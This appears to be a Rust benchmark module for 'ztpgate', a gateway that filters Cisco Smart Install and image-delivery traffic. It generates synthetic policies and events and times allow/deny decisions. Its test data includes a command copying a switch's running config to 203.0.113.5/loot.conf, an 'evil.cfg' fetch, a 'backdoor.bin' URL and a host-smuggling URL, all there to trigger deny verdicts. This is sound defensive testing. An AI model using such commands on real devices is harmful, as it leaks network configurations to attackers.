//! Benchmarks behind `ztpgate bench`: synthetic but realistic policies, pre-generated events, and
//! single-threaded decision loops timed with [`crate::clock::now_monotonic`].
//!
//! Inputs: only the benchmark parameters. Policies and events come from a fixed-seed xorshift
//! generator, so two runs measure the same work. Figures are recorded in `docs/benchmarks.md`.

use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::time::Duration;

use chrono::{DateTime, NaiveDate, NaiveDateTime, TimeDelta, Utc};

use crate::clock::now_monotonic;
use crate::policy::Mode;
use crate::policy::access::{
    AccessRule, AccessVerdict, Action, CompiledAccess, CopyPattern, KindSet, MessageKind, Selector,
    SmartInstallEvent, SmartInstallPolicy,
};
use crate::policy::delivery::{
    DeliveryEvent, DeliveryVerdict, ImageDeliveryPolicy, LegacyTftpException,
};
use crate::policy::join::{
    ClientEntry, ClientOverride, JoinContext, JoinDevice, JoinMode, JoinWindowPolicy, Mac,
    ManualWindow, Purpose,
};
use crate::policy::net::{AddrSet, HostSet, IpNet};
use crate::policy::schedule::{CronSchedule, Recurrence, Window};

/// Parameters of `ztpgate bench policy`.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct PolicyBenchOptions {
    /// Smart Install access rules in the synthetic policy.
    pub rules: usize,
    /// Wall-clock time per measurement.
    pub duration: Duration,
}

/// One timed decision loop.
#[derive(Clone, Debug, PartialEq, serde::Serialize)]
pub struct Measurement {
    /// What was measured.
    pub name: &'static str,
    /// Decisions made.
    pub operations: u64,
    /// Time taken, in seconds.
    pub seconds: f64,
    /// Decisions per second.
    pub per_second: f64,
    /// What the pre-generated events decide to (share of each verdict).
    pub mix: String,
}

/// The result of `ztpgate bench policy`.
#[derive(Clone, Debug, PartialEq, serde::Serialize)]
pub struct PolicyBenchReport {
    /// Smart Install access rules in the synthetic policy.
    pub rules: usize,
    /// Pre-generated events each loop rotates over.
    pub events: usize,
    /// The measurements, in the order run.
    pub measurements: Vec<Measurement>,
}

/// Runs the policy benchmarks on the calling thread.
pub fn run_policy(opts: PolicyBenchOptions) -> PolicyBenchReport {
    let mut rng = XorShift::new(SEED);
    let access = synthetic_access_policy(opts.rules, &mut rng).compile();
    let evs = access_events(access.policy(), &mut rng);
    let mut measurements = vec![
        measure(
            "smart-install access (compiled)",
            opts.duration,
            access_mix(&access, &evs),
            |i| access.decide(&evs[i % evs.len()]).verdict == AccessVerdict::Allow,
        ),
        measure(
            "smart-install access (linear reference)",
            opts.duration,
            String::new(),
            |i| access.decide_linear(&evs[i % evs.len()]).verdict == AccessVerdict::Allow,
        ),
    ];
    let join = synthetic_join_policy();
    let joins = join_events(&mut rng);
    let mix = verdict_mix(
        joins
            .iter()
            .map(|(d, c, t)| join.decide(d, c, *t).verdict.state.as_str()),
    );
    measurements.push(measure("join window", opts.duration, mix, |i| {
        let (device, ctx, now) = &joins[i % joins.len()];
        join.decide(device, ctx, *now).verdict.window_open
    }));
    let delivery = synthetic_delivery_policy();
    let deliveries = delivery_events(&mut rng);
    let mix = verdict_mix(
        deliveries
            .iter()
            .map(|ev| match delivery.decide(ev).verdict {
                DeliveryVerdict::Allow => "allow",
                DeliveryVerdict::Deny => "deny",
                DeliveryVerdict::Rewrite(_) => "rewrite",
            }),
    );
    measurements.push(measure("image delivery", opts.duration, mix, |i| {
        delivery
            .decide(&deliveries[i % deliveries.len()])
            .reason
            .len()
            > 1
    }));
    PolicyBenchReport {
        rules: opts.rules,
        events: evs.len(),
        measurements,
    }
}

/// Renders a report as the table `ztpgate bench policy` prints.
pub fn render_table(report: &PolicyBenchReport) -> String {
    let mut out = format!(
        "ztpgate bench policy: {} Smart Install rules, {} events per loop, one thread\n\n",
        report.rules, report.events
    );
    out.push_str(&format!(
        "{:<42} {:>12} {:>8} {:>14}  {}\n",
        "measurement", "decisions", "seconds", "decisions/s", "verdict mix"
    ));
    for m in &report.measurements {
        out.push_str(&format!(
            "{:<42} {:>12} {:>8.2} {:>14}  {}\n",
            m.name,
            m.operations,
            m.seconds,
            group_digits(m.per_second.round() as u64),
            m.mix
        ));
    }
    out
}

/// Runs `decide` over increasing indices for `duration`, checking the clock every batch.
fn measure(
    name: &'static str,
    duration: Duration,
    mix: String,
    mut decide: impl FnMut(usize) -> bool,
) -> Measurement {
    const BATCH: usize = 1024;
    let start = now_monotonic();
    let mut operations = 0u64;
    let mut i = 0usize;
    let elapsed = loop {
        for _ in 0..BATCH {
            black_box(decide(black_box(i)));
            i = i.wrapping_add(1);
        }
        operations += BATCH as u64;
        let elapsed = now_monotonic().duration_since(start);
        if elapsed >= duration {
            break elapsed;
        }
    };
    let seconds = elapsed.as_secs_f64();
    Measurement {
        name,
        operations,
        seconds,
        per_second: operations as f64 / seconds,
        mix,
    }
}

fn access_mix(access: &CompiledAccess, events: &[SmartInstallEvent<'_>]) -> String {
    verdict_mix(events.iter().map(|ev| {
        let d = access.decide(ev);
        match (d.verdict, d.mode) {
            (AccessVerdict::Allow, _) => "allow",
            (AccessVerdict::Deny, Mode::Enforce) => "deny",
            (AccessVerdict::Deny, Mode::Audit) => "audited deny",
        }
    }))
}

/// "allow 41%, deny 59%": verdict shares in first-seen order.
fn verdict_mix<'a>(verdicts: impl Iterator<Item = &'a str>) -> String {
    let mut counts: Vec<(&str, usize)> = Vec::new();
    let mut total = 0;
    for v in verdicts {
        total += 1;
        match counts.iter_mut().find(|(name, _)| *name == v) {
            Some((_, n)) => *n += 1,
            None => counts.push((v, 1)),
        }
    }
    let parts: Vec<String> = counts
        .iter()
        .map(|(name, n)| format!("{name} {}%", n * 100 / total.max(1)))
        .collect();
    parts.join(", ")
}

fn group_digits(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i) % 3 == 0 {
            out.push(',');
        }
        out.push(c);
    }
    out
}

// === synthetic Smart Install policy and events ===

/// A Smart Install policy with `rules` rules: three realistic ones (directors to clients,
/// client replies, no `execute` from anywhere), then synthetic rules over random IPv4 and IPv6
/// prefixes — a fifth of them deny rules from specific prefixes, a tenth audited — with random
/// kind sets.
pub fn synthetic_access_policy(rules: usize, rng: &mut XorShift) -> SmartInstallPolicy {
    let mut tftp_servers = HostSet::default();
    for entry in [
        "10.10.0.5",
        "10.10.0.6",
        "2001:db8:10::5",
        "tftp.example.net",
    ] {
        // Fixed, valid entries: a failure here would be a bug in this list.
        let _ = tftp_servers.push_entry(entry);
    }
    let director_kinds = [
        MessageKind::Probe,
        MessageKind::ConfigPush,
        MessageKind::CopyCommands,
        MessageKind::ImageUpgrade,
    ];
    let mut all = vec![
        rule(
            "directors-to-clients",
            Action::Allow,
            Selector::Directors,
            Selector::ClientNetworks,
            kinds(&director_kinds),
        ),
        rule(
            "client-replies",
            Action::Allow,
            Selector::ClientNetworks,
            Selector::Directors,
            kinds(&[MessageKind::ClientReply]),
        ),
        rule(
            "no-execute",
            Action::Deny,
            Selector::Any,
            Selector::Any,
            kinds(&[MessageKind::Execute, MessageKind::InitDiscovery]),
        ),
    ];
    for i in all.len()..rules {
        // Deny rules name specific prefixes (a rogue subnet), allow rules any selector.
        let (action, from) = if rng.below(5) == 0 {
            (Action::Deny, random_nets(rng))
        } else {
            (Action::Allow, random_selector(rng))
        };
        let kinds = KindSet((rng.next_u64() as u8) | 1);
        let mut r = rule(
            &format!("synthetic-{i}"),
            action,
            from,
            random_selector(rng),
            kinds,
        );
        r.mode = if rng.below(10) == 0 {
            Mode::Audit
        } else {
            Mode::Enforce
        };
        all.push(r);
    }
    all.truncate(rules);
    SmartInstallPolicy {
        directors: AddrSet(
            (0..4)
                .map(|i| host_v4(10, 10, 1, i + 1))
                .chain([host_v6(0x1, 1)])
                .collect(),
        ),
        client_networks: AddrSet(
            (0..16)
                .filter_map(|i| net_v4(u32::from_be_bytes([10, 20, i, 0]), 24))
                .chain(net_v6(0x2001_0db8_0020 << 80, 64))
                .collect(),
        ),
        tftp_servers,
        copy_patterns: [
            "copy system:running-config tftp://{tftp}/*",
            "copy nvram:startup-config tftp://{tftp}/backups/*",
            "copy flash:/config.text tftp://{tftp}/*",
        ]
        .into_iter()
        .filter_map(|p| CopyPattern::new(p).ok())
        .collect(),
        rules: all,
        ..SmartInstallPolicy::default()
    }
}

fn rule(name: &str, action: Action, from: Selector, to: Selector, kinds: KindSet) -> AccessRule {
    AccessRule {
        name: name.to_owned(),
        action,
        from: vec![from],
        to: vec![to],
        kinds,
        mode: Mode::Enforce,
    }
}

fn kinds(list: &[MessageKind]) -> KindSet {
    list.iter().fold(KindSet::default(), |set, k| set.with(*k))
}

fn random_selector(rng: &mut XorShift) -> Selector {
    match rng.below(20) {
        0 => Selector::Any,
        1 | 2 => Selector::Directors,
        3 | 4 => Selector::ClientNetworks,
        5 => Selector::TftpServers,
        _ => random_nets(rng),
    }
}

fn random_nets(rng: &mut XorShift) -> Selector {
    Selector::Nets(AddrSet(
        (0..1 + rng.below(2))
            .filter_map(|_| random_net(rng))
            .collect(),
    ))
}

fn random_net(rng: &mut XorShift) -> Option<IpNet> {
    if rng.below(10) < 6 {
        let prefix = 8 + rng.below(25) as u8;
        net_v4(0x0a00_0000 | (rng.next_u64() as u32 & 0x00ff_ffff), prefix)
    } else {
        let prefix = 32 + rng.below(97) as u8;
        net_v6(0x2001_0db8 << 96 | u128::from(rng.next_u64()) << 32, prefix)
    }
}

fn net_v4(addr: u32, prefix: u8) -> Option<IpNet> {
    let mask = u32::MAX.checked_shl(32 - u32::from(prefix)).unwrap_or(0);
    IpNet::new(IpAddr::V4(Ipv4Addr::from(addr & mask)), prefix).ok()
}

fn net_v6(addr: u128, prefix: u8) -> Option<IpNet> {
    let mask = u128::MAX.checked_shl(128 - u32::from(prefix)).unwrap_or(0);
    IpNet::new(IpAddr::V6(Ipv6Addr::from(addr & mask)), prefix).ok()
}

fn host_v4(a: u8, b: u8, c: u8, d: u8) -> IpNet {
    IpNet::host(IpAddr::V4(Ipv4Addr::new(a, b, c, d)))
}

fn host_v6(group: u128, host: u128) -> IpNet {
    IpNet::host(IpAddr::V6(Ipv6Addr::from(
        0x2001_0db8 << 96 | group << 80 | host,
    )))
}

const URLS: [&[&str]; 4] = [
    &[],
    &["tftp://10.10.0.5/configs/sw1.cfg"],
    &["tftp://203.0.113.5/evil.cfg"],
    &["tftp://tftp.example.net/images/imagelist.txt"],
];

const COMMANDS: [&[&str]; 4] = [
    &[],
    &["copy system:running-config tftp://10.10.0.5/backups/sw1.cfg"],
    &[
        "copy system:running-config flash:/config.text",
        "copy flash:/config.text tftp://203.0.113.5/loot.conf",
    ],
    &["copy nvram:startup-config tftp://10.10.0.6/backups/sw2.cfg"],
];

/// Pre-generated Smart Install events rotated over by the access loops.
const ACCESS_EVENTS: usize = 4096;

fn access_events(
    policy: &SmartInstallPolicy,
    rng: &mut XorShift,
) -> Vec<SmartInstallEvent<'static>> {
    (0..ACCESS_EVENTS)
        .map(|_| {
            let src = pick_addr(policy, rng);
            let dst = pick_addr(policy, rng);
            let kind = MessageKind::ALL[rng.below(MessageKind::ALL.len() as u64) as usize];
            let (urls, commands) = match kind {
                MessageKind::ConfigPush | MessageKind::ImageUpgrade | MessageKind::Execute => {
                    (URLS[rng.below(URLS.len() as u64) as usize], COMMANDS[0])
                }
                MessageKind::CopyCommands => {
                    (URLS[0], COMMANDS[rng.below(COMMANDS.len() as u64) as usize])
                }
                _ => (URLS[0], COMMANDS[0]),
            };
            SmartInstallEvent {
                src,
                dst,
                kind,
                urls,
                commands,
            }
        })
        .collect()
}

/// A director, a client, an address inside a random rule prefix, or any address.
fn pick_addr(policy: &SmartInstallPolicy, rng: &mut XorShift) -> IpAddr {
    let inside = |net: &IpNet, rng: &mut XorShift| {
        let (lo, hi) = net.range();
        let span = hi - lo;
        let x = lo
            + if span == u128::MAX {
                u128::from(rng.next_u64())
            } else {
                u128::from(rng.next_u64()) % (span + 1)
            };
        match net.addr() {
            IpAddr::V4(_) => IpAddr::V4(Ipv4Addr::from(x as u32)),
            IpAddr::V6(_) => IpAddr::V6(Ipv6Addr::from(x)),
        }
    };
    let choose = |set: &AddrSet, rng: &mut XorShift| {
        let len = set.0.len() as u64;
        set.0.get(rng.below(len.max(1)) as usize).copied()
    };
    let net = match rng.below(10) {
        0..=2 => choose(&policy.directors, rng),
        3..=5 => choose(&policy.client_networks, rng),
        6..=7 => policy
            .rules
            .get(rng.below(policy.rules.len().max(1) as u64) as usize)
            .and_then(|r| match r.from.first() {
                Some(Selector::Nets(set)) => choose(set, rng),
                _ => None,
            }),
        _ => None,
    };
    match net {
        Some(net) => inside(&net, rng),
        None => IpAddr::V4(Ipv4Addr::from(rng.next_u64() as u32)),
    }
}

// === synthetic join policy and events ===

/// A join policy in manual mode with five windows (once, daily, weekly, monthly, cron) and 64
/// fixed clients.
pub fn synthetic_join_policy() -> JoinWindowPolicy {
    let at = |y, m, d, h| NaiveDate::from_ymd_opt(y, m, d).and_then(|d| d.and_hms_opt(h, 0, 0));
    let window =
        |name: &str, start: Option<NaiveDateTime>, minutes: u32, recurrence: Recurrence| {
            start.map(|start| Window {
                name: name.to_owned(),
                start,
                interval_minutes: Some(minutes),
                end: None,
                recurrence,
            })
        };
    // 30 1 * * 1-5: weekday nights at 01:30.
    let weekday_nights = CronSchedule {
        source: "30 1 * * 1-5".to_owned(),
        minutes: 1 << 30,
        hours: 1 << 1,
        days_of_month: 0xffff_fffe,
        months: 0x1ffe,
        days_of_week: 0b0011_1110,
        dom_restricted: false,
        dow_restricted: true,
    };
    let windows = [
        window("rollout", at(2026, 3, 2, 8), 8 * 60, Recurrence::Once),
        window("nightly", at(2026, 1, 1, 2), 120, Recurrence::Daily),
        window("saturday", at(2026, 1, 3, 6), 240, Recurrence::Weekly),
        window("month-end", at(2026, 1, 31, 20), 180, Recurrence::Monthly),
        window(
            "weekday-nights",
            at(2026, 1, 1, 0),
            90,
            Recurrence::Cron(weekday_nights),
        ),
    ];
    JoinWindowPolicy {
        mode: JoinMode::Manual,
        windows: windows.into_iter().flatten().collect(),
        clients: (0..64u8)
            .map(|i| ClientEntry {
                mac: Mac([0x00, 0x1b, 0x54, 0x00, 0x00, i]),
                state: if i % 2 == 0 {
                    ClientOverride::Allowed
                } else {
                    ClientOverride::Held
                },
            })
            .collect(),
        ..JoinWindowPolicy::default()
    }
}

fn join_events(rng: &mut XorShift) -> Vec<(JoinDevice, JoinContext, DateTime<Utc>)> {
    let base = NaiveDate::from_ymd_opt(2026, 1, 1)
        .and_then(|d| d.and_hms_opt(0, 0, 0))
        .map(|t| t.and_utc())
        .unwrap_or_default();
    (0..1024)
        .map(|_| {
            let mac = Mac([
                0x00,
                0x1b,
                0x54,
                0x00,
                rng.below(2) as u8,
                rng.next_u64() as u8,
            ]);
            let device = JoinDevice {
                mac: Some(mac),
                known: rng.below(4) == 0,
                ..JoinDevice::default()
            };
            let ctx = JoinContext {
                manual: match rng.below(20) {
                    0 => Some(ManualWindow::Open),
                    1 => Some(ManualWindow::Closed),
                    _ => None,
                },
                client_override: None,
                on_hold_list: rng.below(10) == 0,
                purpose: if rng.below(2) == 0 {
                    Purpose::SmartInstallJoin
                } else {
                    Purpose::PnpOnboarding
                },
            };
            let now = base + TimeDelta::minutes(rng.below(366 * 1440) as i64);
            (device, ctx, now)
        })
        .collect()
}

// === synthetic delivery policy and events ===

/// A delivery policy: HTTPS only, checksums required, four allowed hosts, a rewrite target and
/// one legacy TFTP exception.
pub fn synthetic_delivery_policy() -> ImageDeliveryPolicy {
    let mut allowed_hosts = HostSet::default();
    for entry in [
        "images.example.net",
        "10.10.0.0/24",
        "2001:db8:10::/64",
        "cdn.example.net",
    ] {
        let _ = allowed_hosts.push_entry(entry);
    }
    let mut server = HostSet::default();
    let _ = server.push_entry("10.10.0.5");
    ImageDeliveryPolicy {
        allowed_hosts,
        rewrite_cleartext_to: Some("https://gw.example.net/cache".to_owned()),
        legacy_tftp: vec![LegacyTftpException {
            name: "legacy-branch".to_owned(),
            networks: AddrSet(net_v4(0x0a14_0000, 16).into_iter().collect()),
            server,
            mode: Mode::Enforce,
        }],
        ..ImageDeliveryPolicy::default()
    }
}

fn delivery_events(rng: &mut XorShift) -> Vec<DeliveryEvent<'static>> {
    const URLS: [&str; 6] = [
        "https://images.example.net/ios/c9300-universalk9.17.12.04.SPA.bin",
        "https://10.10.0.7:8443/images/c2960x.tar",
        "http://images.example.net/ios/c9300.bin",
        "tftp://10.10.0.5/c2960-lanbasek9-tar.152-7.E9.tar",
        "https://evil.example.org/backdoor.bin",
        "tftp://10.10.0.5\\@evil/x",
    ];
    const CHECKSUM: &str =
        "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    (0..1024)
        .map(|_| DeliveryEvent {
            url: URLS[rng.below(URLS.len() as u64) as usize],
            checksum: match rng.below(5) {
                0 => None,
                1 => Some("md5:d41d8cd98f00b204e9800998ecf8427e"),
                _ => Some(CHECKSUM),
            },
            device: Some(IpAddr::V4(Ipv4Addr::new(10, 20 + rng.below(2) as u8, 1, 9))),
            legacy_smart_install: rng.below(2) == 0,
        })
        .collect()
}

// === deterministic random numbers ===

/// Marsaglia's xorshift64: deterministic, dependency-free, good enough for synthetic data.
#[derive(Clone, Debug)]
pub struct XorShift(u64);

impl XorShift {
    /// A generator from a non-zero seed (zero is replaced by a fixed constant).
    pub fn new(seed: u64) -> Self {
        Self(if seed == 0 { SEED } else { seed })
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    /// A number in `0..n` (0 when `n` is 0).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64().checked_rem(n).unwrap_or(0)
    }
}

const SEED: u64 = 0x5eed_2026_0001_cafe;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn synthetic_policy_has_requested_rules_and_both_families() {
        let mut rng = XorShift::new(1);
        let p = synthetic_access_policy(1000, &mut rng);
        assert_eq!(p.rules.len(), 1000);
        let nets: Vec<IpNet> = p
            .rules
            .iter()
            .flat_map(|r| r.from.iter().chain(&r.to))
            .filter_map(|s| match s {
                Selector::Nets(set) => Some(set.0.clone()),
                _ => None,
            })
            .flatten()
            .collect();
        assert!(nets.iter().any(IpNet::is_ipv4));
        assert!(nets.iter().any(|n| !n.is_ipv4()));
        assert!(p.rules.iter().any(|r| r.action == Action::Deny));
        assert_eq!(synthetic_access_policy(2, &mut rng).rules.len(), 2);
    }

    #[test]
    fn generator_is_deterministic() {
        let a: Vec<u64> = (0..4)
            .map({
                let mut r = XorShift::new(7);
                move |_| r.next_u64()
            })
            .collect();
        let b: Vec<u64> = (0..4)
            .map({
                let mut r = XorShift::new(7);
                move |_| r.next_u64()
            })
            .collect();
        assert_eq!(a, b);
        assert_eq!(XorShift::new(3).below(0), 0);
    }

    #[test]
    fn events_exercise_every_verdict() {
        let mut rng = XorShift::new(SEED);
        let access = synthetic_access_policy(200, &mut rng).compile();
        let evs = access_events(access.policy(), &mut rng);
        let mix = access_mix(&access, &evs);
        assert!(mix.contains("allow") && mix.contains("deny"), "{mix}");
        for ev in &evs {
            assert_eq!(access.decide(ev), access.decide_linear(ev));
        }
        let join = synthetic_join_policy();
        assert_eq!(join.windows.len(), 5);
        let states: Vec<&str> = join_events(&mut rng)
            .iter()
            .map(|(d, c, t)| join.decide(d, c, *t).verdict.state.as_str())
            .collect();
        for state in ["active", "deny", "hold"] {
            assert!(states.contains(&state), "{state}");
        }
    }

    #[test]
    fn short_run_reports_every_measurement() {
        let report = run_policy(PolicyBenchOptions {
            rules: 50,
            duration: Duration::from_millis(5),
        });
        assert_eq!(report.measurements.len(), 4);
        assert!(
            report
                .measurements
                .iter()
                .all(|m| m.operations > 0 && m.per_second > 0.0)
        );
        let table = render_table(&report);
        assert!(table.contains("smart-install access (compiled)"), "{table}");
    }

    #[test]
    fn groups_digits() {
        assert_eq!(group_digits(0), "0");
        assert_eq!(group_digits(1234567), "1,234,567");
        assert_eq!(group_digits(999), "999");
    }
}
